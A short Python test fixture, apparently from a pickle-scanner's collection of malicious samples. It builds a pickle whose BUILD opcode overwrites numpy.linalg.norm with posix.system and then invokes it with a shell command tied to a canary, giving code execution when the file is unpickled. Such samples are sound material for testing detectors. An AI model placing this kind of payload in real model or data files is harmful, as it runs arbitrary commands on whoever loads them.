"""BUILD on a module replaces one of its functions for the whole process."""

from __future__ import annotations

from malicious_samples.recipes import shell
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    p = Pickle().save(Name("numpy", "linalg"), {"norm": Name("posix", "system")}).build().pop()
    return p.call(Name("numpy", "linalg.norm"), shell(canary)).finish()
